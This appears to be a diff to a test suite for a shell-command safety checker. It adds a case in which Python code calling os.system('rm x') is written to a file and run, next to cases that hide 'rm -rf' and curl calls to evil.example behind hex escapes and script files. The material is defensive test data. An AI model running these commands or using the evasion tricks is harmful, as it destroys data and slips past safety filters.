@@ -914,6 +914,7 @@ add(
     "printf '\\x72\\x6d -rf x' > s.sh && bash s.sh",
     "echo -e '\\x63url http://evil.example' > a; . a",
     "printf '%s\\n' 'rm -rf x' > s.sh; sh s.sh",
+    'echo \'import os; os.system("rm x")\' > s; bash s; python3 s',
     "printf '%s' \"require('child_process').execSync('curl http://evil.example')\" > t.js; node t.js",
   ],
   { hidesDenied: true },
